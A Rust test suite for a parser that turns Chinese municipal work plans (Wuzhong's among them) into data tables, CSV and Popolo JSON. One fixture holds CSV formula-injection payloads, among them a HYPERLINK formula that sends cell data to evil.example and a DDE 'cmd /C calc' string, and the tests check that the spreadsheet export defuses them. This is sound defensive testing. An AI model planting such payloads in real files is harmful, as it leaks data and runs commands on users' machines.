//! The tables of `Plan::tables`, the data package and the Popolo JSON: rows checked
//! against the text of `data/source.txt`, every key and constraint of every table
//! checked against its rows, the offsets of every quote sliced from the text, the CSV
//! read back, and the same for the plans of `../shared/corpus/`.

#[path = "common/corpus.rs"]
mod corpus;
#[allow(dead_code)]
#[path = "../examples/regenerate/generated.rs"]
mod generated;

use std::collections::{HashMap, HashSet};

use serde_json::Value;
use wuzhong_plan::{Cell, FieldType, Plan, Table, parse, plan};

/// The table called `name`.
fn table<'a, 'p>(tables: &'a [Table<'p>], name: &str) -> &'a Table<'p> {
    tables
        .iter()
        .find(|t| t.name == name)
        .unwrap_or_else(|| panic!("a table {name}"))
}

/// Each row of `table` as a map from field name to the cell's text (empty for null).
fn rows(table: &Table<'_>) -> Vec<HashMap<&'static str, String>> {
    table
        .records()
        .map(|row| row.map(|(name, cell)| (name, cell.to_string())).collect())
        .collect()
}

/// The rows of `table` whose field `name` is `value`.
fn where_<'a>(
    rows: &'a [HashMap<&'static str, String>],
    name: &str,
    value: &str,
) -> Vec<&'a HashMap<&'static str, String>> {
    rows.iter().filter(|row| row[name] == value).collect()
}

#[test]
fn task_2s_parties_are_its_line_read_in_order() {
    // 責任部門:市教育局、財政局
    let tables = plan().tables();
    let responsibilities = rows(table(&tables, "responsibilities"));
    let task_2 = where_(&responsibilities, "task", "2");
    let read: Vec<(&str, &str, &str, &str, &str, &str)> = task_2
        .iter()
        .map(|row| {
            (
                row["position"].as_str(),
                row["organization"].as_str(),
                row["role"].as_str(),
                row["basis"].as_str(),
                row["quote"].as_str(),
                row["carried_prefix"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        read,
        [
            ("1", "education", "lead", "order", "市教育局", "false"),
            ("2", "finance", "support", "order", "財政局", "true"),
        ]
    );
    let organizations = rows(table(&tables, "organizations"));
    assert_eq!(
        where_(&organizations, "id", "finance")[0]["name"],
        "市財政局"
    );
    // Task 2 stands on line 14 of the source, its responsibility on line 15.
    assert!(task_2.iter().all(|row| row["line"] == "15"));
    let tasks = rows(table(&tables, "tasks"));
    let task = where_(&tasks, "number", "2")[0];
    assert_eq!(task["line"], "14");
    assert_eq!(task["lead_organization"], "education");
    assert_eq!(task["responsibility"], "市教育局、財政局");
}

#[test]
fn a_collective_in_brackets_is_one_party() {
    // Task 4: 責任部門:市衛生健康委員會、人力資源和社會保障局,各縣(市、區)
    let tables = plan().tables();
    let responsibilities = rows(table(&tables, "responsibilities"));
    let quotes: Vec<&str> = where_(&responsibilities, "task", "4")
        .iter()
        .map(|row| row["quote"].as_str())
        .collect();
    assert_eq!(
        quotes,
        ["市衛生健康委員會", "人力資源和社會保障局", "各縣(市、區)"]
    );
    let counties = where_(&responsibilities, "quote", "各縣(市、區)");
    let ids: HashSet<&str> = counties
        .iter()
        .map(|row| row["organization"].as_str())
        .collect();
    assert_eq!(ids.len(), 1, "every 各縣(市、區) is one organisation");
    let id = ids.into_iter().next().unwrap();
    let organizations = rows(table(&tables, "organizations"));
    let org = where_(&organizations, "id", id)[0];
    assert_eq!(
        (org["name"].as_str(), org["category"].as_str()),
        ("各縣(市、區)", "collective")
    );
    // Wuzhong's five county-level divisions: 利通區, 紅寺堡區, 青銅峽市, 鹽池縣, 同心縣.
    assert_eq!(org["members"].split(';').count(), 5);
    assert_eq!(org["tasks_led"], "0");
}

#[test]
fn targets_carry_their_task_lead_value_and_deadline() {
    let tables = plan().tables();
    let targets = rows(table(&tables, "targets"));
    let organizations = rows(table(&tables, "organizations"));
    let id_of = |name: &str| where_(&organizations, "name", name)[0]["id"].clone();
    // Task 26: 到2025年…籌集租賃住房375套; 責任單位:市住房和城鄉建設局、…
    let housing = where_(&targets, "id", "t26.1")[0];
    assert_eq!(housing["quote"], "籌集租賃住房375套");
    assert_eq!(housing["task"], "26");
    assert_eq!(housing["lead_organization"], id_of("市住房和城鄉建設局"));
    assert_eq!(
        (
            housing["kind"].as_str(),
            housing["comparator"].as_str(),
            housing["value"].as_str(),
            housing["unit"].as_str(),
            housing["deadline_year"].as_str(),
            housing["deadline_end_of_year"].as_str(),
        ),
        (
            "quantitative",
            "exact",
            "375",
            "housing-units",
            "2025",
            "false"
        )
    );
    // Task 7: 到2023年底,全市…配建率達到100%; 責任單位:市民政局、…
    let share = where_(&targets, "id", "t7.2")[0];
    assert_eq!(share["lead_organization"], id_of("市民政局"));
    assert_eq!(
        (share["comparator"].as_str(), share["value"].as_str()),
        ("reach", "100")
    );
    assert_eq!(share["deadline_end_of_year"], "true");
    // Task 7: 人均不少於0.1平方米, undated.
    let per_capita = where_(&targets, "id", "t7.1")[0];
    assert_eq!(per_capita["value"], "0.1");
    assert_eq!(
        (
            per_capita["deadline_year"].as_str(),
            per_capita["deadline_end_of_year"].as_str()
        ),
        ("", "")
    );
    // Task 21: 1-2個專業群.
    let range = where_(&targets, "id", "t21.1")[0];
    assert_eq!(
        (range["value"].as_str(), range["value_max"].as_str()),
        ("1", "2")
    );
    // Part 一's objectives stand in no task and have no lead.
    let objectives = where_(&targets, "part", "1");
    assert_eq!(objectives.len(), 13);
    assert!(
        objectives
            .iter()
            .all(|t| t["task"].is_empty() && t["lead_organization"].is_empty())
    );
    assert!(
        objectives
            .iter()
            .all(|t| t["paragraph"] == "0" && t["kind"] == "qualitative")
    );
    // Task 48 (80項基本公共服務) has no responsibility line, so no lead.
    assert_eq!(where_(&targets, "id", "t48.1")[0]["lead_organization"], "");
}

#[test]
fn domains_and_mentions_are_the_tasks() {
    let tables = plan().tables();
    let domains = rows(table(&tables, "domains"));
    // Task 7 serves 老有所養 and 弱有所扶; task 48 names all nine goals.
    let of = |task: &str| -> Vec<String> {
        where_(&domains, "task", task)
            .iter()
            .map(|row| row["name"].clone())
            .collect()
    };
    assert_eq!(of("7"), ["老有所養", "弱有所扶"]);
    assert_eq!(of("48").len(), 9);
    let mentions = rows(table(&tables, "mentions"));
    // Task 49: 由市發展改革委牽頭…市委、市政府…市財政局…
    let task_49: Vec<(&str, &str)> = where_(&mentions, "task", "49")
        .iter()
        .map(|row| (row["quote"].as_str(), row["organization"].as_str()))
        .take(4)
        .collect();
    assert_eq!(
        task_49,
        [
            ("市發展改革委", "development-reform"),
            ("市委", ""),
            ("市政府", ""),
            ("市財政局", "finance")
        ]
    );
    assert!(
        mentions
            .iter()
            .all(|row| ["48", "49", "50"].contains(&row["task"].as_str()))
    );
}

/// Checks every table of `plan`: each row has a cell of its field's type for each
/// field, required fields are never null, enums hold, primary keys are unique, every
/// foreign key resolves, and every quote's offsets slice the text to it.
fn check_tables(plan: &Plan, what: &str) {
    let package = plan.data_package();
    let text = &package.text;
    assert_eq!(
        text,
        &plan.to_text(),
        "{what}: the package's text is the plan's"
    );
    let chars: Vec<char> = text.chars().collect();
    let tables = &package.tables;
    let names: Vec<&str> = tables.iter().map(|t| t.name).collect();
    assert_eq!(
        names,
        [
            "tasks",
            "organizations",
            "responsibilities",
            "targets",
            "domains",
            "mentions",
            "annexes"
        ]
    );
    // The values of each table's primary key, to resolve the foreign keys against.
    let mut keys: HashMap<&str, HashSet<Vec<String>>> = HashMap::new();
    for table in tables {
        let at: Vec<usize> = table
            .primary_key
            .iter()
            .map(|name| table.field(name).expect("a key names a field").0)
            .collect();
        let mut seen = HashSet::new();
        for row in &table.rows {
            assert_eq!(row.len(), table.fields.len(), "{what}: {}", table.name);
            let key: Vec<String> = at.iter().map(|&i| row[i].to_string()).collect();
            assert!(
                seen.insert(key.clone()),
                "{what}: {} repeats key {key:?}",
                table.name
            );
            for (field, cell) in table.fields.iter().zip(row) {
                let typed = match (field.kind, cell) {
                    (_, Cell::Null) => !field.required,
                    (FieldType::String, Cell::String(s)) => {
                        field.values.is_empty() || field.values.contains(&s.as_ref())
                    }
                    (FieldType::Integer | FieldType::Year, Cell::Integer(_))
                    | (FieldType::Number, Cell::Number(_))
                    | (FieldType::Boolean, Cell::Bool(_)) => true,
                    _ => false,
                };
                assert!(
                    typed,
                    "{what}: {}.{} holds {cell:?}",
                    table.name, field.name
                );
            }
        }
        keys.insert(table.name, seen);
    }
    for table in tables {
        for key in &table.foreign_keys {
            let at: Vec<usize> = key
                .fields
                .iter()
                .map(|f| table.field(f).unwrap().0)
                .collect();
            let targets = &keys[key.table];
            for row in &table.rows {
                if at.iter().any(|&i| row[i].is_null()) {
                    continue;
                }
                let value: Vec<String> = at.iter().map(|&i| row[i].to_string()).collect();
                assert!(
                    targets.contains(&value),
                    "{what}: {}.{:?} = {value:?} is no key of {}",
                    table.name,
                    key.fields,
                    key.table
                );
            }
        }
        // Every quote, placed.
        let Some((quote_at, _)) = table.field("quote") else {
            continue;
        };
        let field = |name| table.field(name).unwrap().0;
        let (line, bytes, chars_at) = (
            field("line"),
            (field("byte_start"), field("byte_end")),
            (field("char_start"), field("char_end")),
        );
        for row in &table.rows {
            let quote = row[quote_at].as_str().unwrap();
            let int = |i: usize| {
                row[i]
                    .as_integer()
                    .unwrap_or_else(|| panic!("{what}: {} places {quote}", table.name))
                    as usize
            };
            let (start, end) = (int(bytes.0), int(bytes.1));
            assert_eq!(&text[start..end], quote, "{what}: {} bytes", table.name);
            let sliced: String = chars[int(chars_at.0)..int(chars_at.1)].iter().collect();
            assert_eq!(sliced, quote, "{what}: {} characters", table.name);
            let line_no = text[..start].matches('\n').count() + 1;
            assert_eq!(int(line), line_no, "{what}: {} line of {quote}", table.name);
        }
    }
    // The CSV of each table reads back as its cells, under a header of its fields.
    for table in tables {
        let csv = table.to_csv();
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        let header: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        let names: Vec<&str> = table.fields.iter().map(|f| f.name).collect();
        assert_eq!(header, names, "{what}: {}", table.name);
        let read: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect();
        let cells: Vec<Vec<String>> = table
            .rows
            .iter()
            .map(|row| row.iter().map(Cell::to_string).collect())
            .collect();
        assert_eq!(read, cells, "{what}: {}", table.name);
        // For a spreadsheet, the same cells, but a `'` before each that a spreadsheet
        // would run (OWASP's first characters; a negative number is a number).
        let spreadsheet = table.to_spreadsheet_csv();
        let mut reader = csv::ReaderBuilder::new().from_reader(spreadsheet.as_bytes());
        let read: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect();
        let formula = |cell: &str| {
            let negative = cell.strip_prefix('-').is_some_and(|n| {
                !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit() || b == b'.')
            });
            cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !negative
        };
        let defused: Vec<Vec<String>> = cells
            .iter()
            .map(|row| {
                row.iter()
                    .map(|c| {
                        if formula(c) {
                            format!("'{c}")
                        } else {
                            c.clone()
                        }
                    })
                    .collect()
            })
            .collect();
        assert_eq!(read, defused, "{what}: {} for spreadsheets", table.name);
    }
    // The descriptor describes each table as it is.
    let descriptor: Value = serde_json::from_str(&package.descriptor()).unwrap();
    assert_eq!(descriptor["profile"], "tabular-data-package");
    for (resource, table) in descriptor["resources"]
        .as_array()
        .unwrap()
        .iter()
        .zip(tables)
    {
        assert_eq!(resource["path"], table.path());
        let fields: Vec<&str> = resource["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["name"].as_str().unwrap())
            .collect();
        assert_eq!(
            fields,
            table.fields.iter().map(|f| f.name).collect::<Vec<_>>()
        );
        assert_eq!(
            resource["schema"]["primaryKey"],
            serde_json::json!(table.primary_key)
        );
    }
}

#[test]
fn every_table_of_the_embedded_plan_holds_its_schema() {
    let plan = plan();
    check_tables(plan, "the embedded plan");
    let tables = plan.tables();
    let count = |name| table(&tables, name).rows.len();
    assert_eq!(count("tasks"), 50);
    assert_eq!(count("organizations"), plan.organizations().len());
    assert_eq!(
        count("responsibilities"),
        plan.tasks().map(|t| t.responsible().len()).sum::<usize>()
    );
    assert_eq!(count("targets"), 30);
    // In the Wuzhong plan no task names a body twice in one role.
    let responsibilities = rows(table(&tables, "responsibilities"));
    let pairs: HashSet<(&str, &str, &str)> = responsibilities
        .iter()
        .map(|r| {
            (
                r["task"].as_str(),
                r["organization"].as_str(),
                r["role"].as_str(),
            )
        })
        .collect();
    assert_eq!(pairs.len(), responsibilities.len());
}

#[test]
fn offsets_hold_for_notes_indentation_and_characters_outside_the_bmp() {
    // Indented lines, blank lines, notes in a task's body and on a continuation line,
    // a `牽頭單位:` line then a `配合單位:` one, CRLF, and a character outside the BMP
    // (𠀀) before the quotes.
    let text = concat!(
        "　　一、重点任务\r\n\r\n　　1.标题𠀀。到2025年，建成1所学校。（牵头单位：市教育局，配合单位：市财政局、各区、县级市）\r\n",
        "　　2.甲。乙。\r\n　　牽頭單位:市民政局\r\n　　配合單位:市財政局、市教育局\r\n",
        "　　3.丙。丁。\r\n　　戊。(市衛生健康委員會牽頭)\r\n　　己"
    );
    let plan = parse(text).unwrap();
    check_tables(&plan, "a plan of the genre's other forms");
    let tables = plan.tables();
    let responsibilities = rows(table(&tables, "responsibilities"));
    let task_2: Vec<(&str, &str)> = where_(&responsibilities, "task", "2")
        .iter()
        .map(|r| (r["quote"].as_str(), r["basis"].as_str()))
        .collect();
    assert_eq!(
        task_2,
        [
            ("市民政局", "label"),
            ("市財政局", "label"),
            ("市教育局", "label")
        ]
    );
    let task_3: Vec<(&str, &str, &str)> = where_(&responsibilities, "task", "3")
        .iter()
        .map(|r| (r["quote"].as_str(), r["basis"].as_str(), r["line"].as_str()))
        .collect();
    assert_eq!(task_3, [("市衛生健康委員會", "verb", "8")]); // the line after task 3's
    // 𠀀 is one character and four bytes: the offsets after it differ by three more.
    let first = &where_(&responsibilities, "task", "1")[0];
    let bytes: usize = first["byte_start"].parse().unwrap();
    let chars: usize = first["char_start"].parse().unwrap();
    assert_eq!(text[..bytes].chars().count(), chars);
}

/// A plan whose titles, bodies named, responsibility lines and quote start as formulas
/// do: the cells.
const FORMULAS: &str = "一、重點任務\n\
    1.=HYPERLINK(\"http://evil.example/\"&A1,\"click\")。健全體系。到2025年,=覆蓋率達到60%。\n\
    責任單位:=1+2局、財政局\n\
    2.+cmd|' /C calc'!A0。新建站。\n\
    責任單位:@SUM(1+1)局\n";

#[test]
fn the_package_is_for_programs_and_a_spreadsheet_gets_its_own_csv() {
    let plan = parse(FORMULAS).unwrap();
    // Every check of the tables, the quotes at their offsets and both CSVs.
    check_tables(&plan, "a plan of formulas");
    let package = plan.data_package();
    let files: HashMap<String, String> = package.files().collect();
    // The package's CSV says each value exactly: the quote is the text at its offsets.
    assert!(files["targets.csv"].contains(",=覆蓋率達到60%,"));
    assert!(
        files["tasks.csv"]
            .contains(",\"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\",")
    );
    assert!(files["organizations.csv"].contains(",=1+2局,"));
    assert!(files["responsibilities.csv"].contains(",@SUM(1+1)局,"));
    // The spreadsheet's, made from the same tables, does not run them.
    let spreadsheet = |name: &str| table(&package.tables, name).to_spreadsheet_csv();
    assert!(spreadsheet("targets").contains(",\"'=覆蓋率達到60%\","));
    assert!(spreadsheet("tasks").contains(",\"'+cmd|' /C calc'!A0\","));
    assert!(spreadsheet("organizations").contains(",\"'=1+2局\","));
    assert!(spreadsheet("responsibilities").contains(",\"'@SUM(1+1)局\","));
}

#[test]
fn every_table_of_the_corpus_holds_its_schema() {
    let files = [
        "01-guangzhou-rencai-jiju-2012.txt",
        "02-lishui-2023-zrfj-partial.txt",
        "04-pingdingshan-2013-rwfj-partial.txt",
        "06-xianyang-2022-fgf-gzyd-trad-partial.txt",
    ];
    for file in files {
        let Some((_, text)) = corpus::read(file) else {
            return;
        };
        let plan = parse(&text).unwrap_or_else(|err| panic!("{file}: {err}"));
        check_tables(&plan, file);
    }
}

#[test]
fn popolo_lists_the_organisations_in_its_terms() {
    let plan = plan();
    let popolo: Value = serde_json::from_str(&plan.to_popolo()).unwrap();
    let organizations = popolo["organizations"].as_array().unwrap();
    assert_eq!(organizations.len(), plan.organizations().len());
    let ids: HashSet<&str> = organizations
        .iter()
        .map(|o| o["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), organizations.len());
    let by_id = |id: &str| organizations.iter().find(|o| o["id"] == id).unwrap();
    // 責任部門:市教育局、財政局: 市財政局, also written 財政局.
    let finance = by_id("finance");
    assert_eq!(finance["name"], "市財政局");
    assert_eq!(finance["classification"], "finance");
    assert!(
        finance["other_names"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n["name"] == "財政局")
    );
    assert_eq!(
        finance["area"],
        serde_json::json!({"name": "吳忠", "classification": "city"})
    );
    let counties = by_id("county-governments");
    assert_eq!(counties["name"], "各縣(市、區)");
    let memberships = counties["memberships"].as_array().unwrap();
    assert_eq!(memberships.len(), 5);
    assert!(
        memberships
            .iter()
            .all(|m| m["organization_id"] == "county-governments"
                && m["member"]["@type"] == "Organization")
    );
    // Only Popolo's own terms.
    let popolo_terms = [
        "id",
        "name",
        "other_names",
        "classification",
        "area",
        "memberships",
    ];
    for org in organizations {
        for key in org.as_object().unwrap().keys() {
            assert!(popolo_terms.contains(&key.as_str()), "{key}");
        }
    }
}

#[test]
fn the_guide_lists_every_table_and_field() {
    let guide = include_str!("../docs/datapackage.md");
    let tables = generated::datapackage_tables(plan());
    assert_eq!(
        tables.matches("\n### `").count() + 1,
        plan().tables().len(),
        "a section for every table"
    );
    assert!(
        guide.contains(&tables),
        "docs/datapackage.md's tables are stale: run `{}`; they should read:\n\n{tables}",
        generated::COMMAND
    );
}

/// The plan of the fixture `name` of `tests/fixtures/structure/`.
fn fixture(name: &str) -> Plan {
    let path = format!(
        "{}/tests/fixtures/structure/{name}.txt",
        env!("CARGO_MANIFEST_DIR")
    );
    let text = std::fs::read_to_string(&path).unwrap_or_else(|err| panic!("{path}: {err}"));
    parse(&text).unwrap_or_else(|err| panic!("{name}: {err}"))
}

/// The values of field `name` in every row, in order.
fn column<'a>(rows: &'a [HashMap<&'static str, String>], name: &str) -> Vec<&'a str> {
    rows.iter().map(|row| row[name].as_str()).collect()
}

#[test]
fn every_table_of_every_layout_holds_its_schema() {
    let dir = format!("{}/tests/fixtures/structure", env!("CARGO_MANIFEST_DIR"));
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|e| e == "txt"))
        .map(|path| path.file_stem().unwrap().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert!(names.len() >= 19, "{names:?}");
    for name in &names {
        check_tables(&fixture(name), name);
    }
    for file in [
        "national-2018-chuangxin-table.txt",
        "national-2018-jiuye.txt",
        "national-2019-zongbaoqu.txt",
        "baotou-2022-shuzi-zhengfu-kaoping.txt",
        "anhui-2022-rcep-shishi-yijian.txt",
    ] {
        let Some((_, text)) = corpus::read(file) else {
            return;
        };
        let plan = parse(&text).unwrap_or_else(|err| panic!("{file}: {err}"));
        check_tables(&plan, file);
    }
}

#[test]
fn a_tables_rows_keep_their_numbers_as_written_and_their_annex() {
    // 国办发〔2018〕126号: a notice, then its annex (line 20, `附件`), a table whose rows
    // run 1–14 under sections 一 to 三, none under 四 (cut: `（本文有删减）`), and 21–23
    // under 五.
    let Some((_, text)) = corpus::read("national-2018-chuangxin-table.txt") else {
        return;
    };
    let plan = parse(&text).unwrap();
    let tables = plan.tables();
    let tasks = rows(table(&tables, "tasks"));
    let mut written: Vec<String> = (1..=14).map(|n| n.to_string()).collect();
    written.extend(["21", "22", "23"].map(String::from));
    assert_eq!(column(&tasks, "written_number"), written);
    assert_eq!(column(&tasks, "label"), written, "a row's number cell");
    let numbers: Vec<String> = (1..=17).map(|n| n.to_string()).collect();
    assert_eq!(column(&tasks, "number"), numbers);
    assert!(tasks.iter().all(|row| row["marker"] == "|"));
    assert!(tasks.iter().all(|row| row["annex"] == "1"));
    // The annex has section rows (`一、`) over its rows and no groups: level 2.
    assert!(tasks.iter().all(|row| row["level"] == "2"));
    let row_21 = where_(&tasks, "written_number", "21")[0];
    assert_eq!(row_21["number"], "15");
    assert_eq!(row_21["title"], "允许地方高校自主开展人才引进和职称评审");
    assert_eq!(row_21["line"], "42");
    // Row 1's bodies are its 指导部门 cell, 最高人民法院、最高人民检察院、国家知识产权局:
    // the first leads, and each stands in the row's line, line 24.
    let responsibilities = rows(table(&tables, "responsibilities"));
    let row_1: Vec<(&str, &str, &str)> = where_(&responsibilities, "task", "1")
        .iter()
        .map(|row| {
            (
                row["quote"].as_str(),
                row["role"].as_str(),
                row["line"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        row_1,
        [
            ("最高人民法院", "lead", "24"),
            ("最高人民检察院", "support", "24"),
            ("国家知识产权局", "support", "24"),
        ]
    );
    let annexes = rows(table(&tables, "annexes"));
    assert_eq!(annexes.len(), 1);
    let annex = &annexes[0];
    assert_eq!(
        (
            annex["number"].as_str(),
            annex["id"].as_str(),
            annex["heading"].as_str(),
            annex["title"].as_str(),
            annex["parts"].as_str(),
            annex["tasks"].as_str(),
            annex["line"].as_str(),
        ),
        (
            "1",
            "annex-1",
            "附件",
            "第二批支持创新相关改革举措推广清单",
            "5",
            "17",
            "20"
        )
    );
}

#[test]
fn numbering_that_restarts_keeps_each_number_and_a_key_of_its_own() {
    // Two annexes (lines 9 and 19), each numbering its tasks 1–3 under parts 一 and 二.
    let two_annexes = fixture("two-annexes");
    let tables = two_annexes.tables();
    let tasks = rows(table(&tables, "tasks"));
    assert_eq!(column(&tasks, "number"), ["1", "2", "3", "4", "5", "6"]);
    assert_eq!(
        column(&tasks, "written_number"),
        ["1", "2", "3", "1", "2", "3"]
    );
    assert_eq!(
        column(&tasks, "label"),
        ["1.", "2.", "3.", "1.", "2.", "3."]
    );
    assert_eq!(column(&tasks, "annex"), ["1", "1", "1", "2", "2", "2"]);
    assert_eq!(column(&tasks, "part"), ["1", "1", "2", "3", "3", "4"]);
    assert!(
        tasks
            .iter()
            .all(|row| row["level"] == "2" && row["marker"] == ".")
    );
    let annexes = rows(table(&tables, "annexes"));
    let read: Vec<Vec<&str>> = annexes
        .iter()
        .map(|row| {
            ["number", "heading", "title", "parts", "tasks", "line"]
                .iter()
                .map(|name| row[name].as_str())
                .collect()
        })
        .collect();
    assert_eq!(
        read,
        [
            ["1", "附件1", "青嵐市農村供水保障工作方案", "2", "3", "9"],
            ["2", "附件2", "青嵐市農村道路提升工作方案", "2", "3", "19"],
        ]
    );
    // Each part numbers from 1. again, in the plan itself.
    let restarting = fixture("restart-per-part");
    let tasks = rows(table(&restarting.tables(), "tasks"));
    assert_eq!(
        column(&tasks, "written_number"),
        ["1", "2", "1", "2", "1", "2"]
    );
    assert!(tasks.iter().all(|row| row["annex"].is_empty()));
}

#[test]
fn unnumbered_tasks_and_tasks_numbered_as_parts_say_so() {
    // Four paragraphs of 二、工作措施 carry a note each and no number.
    let unnumbered_tasks = fixture("unnumbered-tasks");
    let tasks = rows(table(&unnumbered_tasks.tables(), "tasks"));
    assert_eq!(tasks.len(), 4);
    for row in &tasks {
        assert_eq!(
            (
                row["label"].as_str(),
                row["marker"].as_str(),
                row["written_number"].as_str(),
                row["level"].as_str()
            ),
            ("", "", "", "2"),
            "{row:?}"
        );
    }
    // Tasks `一、`–`六、` in a text without parts: the top level.
    let numeral_tasks = fixture("numeral-tasks");
    let tasks = rows(table(&numeral_tasks.tables(), "tasks"));
    assert_eq!(
        column(&tasks, "label"),
        ["一、", "二、", "三、", "四、", "五、", "六、"]
    );
    assert_eq!(
        column(&tasks, "written_number"),
        ["1", "2", "3", "4", "5", "6"]
    );
    assert!(
        tasks
            .iter()
            .all(|row| row["level"] == "1" && row["marker"] == "一、")
    );
}

#[test]
fn the_embedded_plans_tasks_are_numbered_as_written_at_level_three() {
    let tables = plan().tables();
    let tasks = rows(table(&tables, "tasks"));
    for row in &tasks {
        let number = &row["number"];
        assert_eq!(row["written_number"], *number);
        assert_eq!(row["label"], format!("{number}."));
        assert_eq!((row["marker"].as_str(), row["level"].as_str()), (".", "3"));
        assert_eq!(row["annex"], "");
    }
    assert!(table(&tables, "annexes").rows.is_empty());
}

/// A plan with bodies at three levels: `省財政廳`, `市民政局`, `縣教育局`. (A plan's
/// JSON cannot make one national: loading checks each organisation against its name,
/// and the vocabulary reads the State Council's bodies' names elsewhere.)
fn plan_of_levels() -> Plan {
    let text =
        "一、重點任務\n1.甲。乙。\n責任單位:省財政廳、市民政局\n2.丙。丁。\n牽頭單位:縣教育局\n";
    parse(text).unwrap()
}

#[test]
fn parties_and_organisations_carry_their_level_and_basis() {
    let plan = plan_of_levels();
    check_tables(&plan, "a plan of bodies at three levels");
    let tables = plan.tables();
    let responsibilities = rows(table(&tables, "responsibilities"));
    let read: Vec<(&str, &str, &str, &str)> = responsibilities
        .iter()
        .map(|r| {
            (
                r["quote"].as_str(),
                r["role"].as_str(),
                r["basis"].as_str(),
                r["level"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        read,
        [
            ("省財政廳", "lead", "order", "province"),
            ("市民政局", "support", "order", "city"),
            ("縣教育局", "lead", "label", "county"),
        ]
    );
    // The new field is the last, so that the others keep their columns.
    let fields = &table(&tables, "responsibilities").fields;
    assert_eq!(fields.last().map(|f| f.name), Some("level"));
    let organizations = rows(table(&tables, "organizations"));
    assert_eq!(
        column(&organizations, "level"),
        ["province", "city", "county"]
    );

    // The descriptor lists every level and every basis, the stated rule among them.
    let descriptor: Value = serde_json::from_str(&plan.data_package().descriptor()).unwrap();
    let field = |resource: &str, name: &str| {
        descriptor["resources"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["name"] == resource)
            .unwrap()["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["name"] == name)
            .unwrap()
            .clone()
    };
    let levels = serde_json::json!([
        "national", "province", "city", "county", "district", "township"
    ]);
    for (resource, name) in [("responsibilities", "level"), ("organizations", "level")] {
        let field = field(resource, name);
        assert_eq!(field["constraints"]["enum"], levels, "{resource}.{name}");
        assert!(field["description"].as_str().unwrap().contains("national"));
    }
    let basis = field("responsibilities", "basis");
    assert_eq!(
        basis["constraints"]["enum"],
        serde_json::json!(["order", "label", "verb", "jointly", "rule"])
    );
    assert!(basis["description"].as_str().unwrap().contains("下同"));

    // Popolo gives the level as its area's classification.
    let popolo: Value = serde_json::from_str(&plan.to_popolo()).unwrap();
    let areas: Vec<&Value> = popolo["organizations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| &o["area"]["classification"])
        .collect();
    assert_eq!(areas, ["province", "city", "county"]);
}
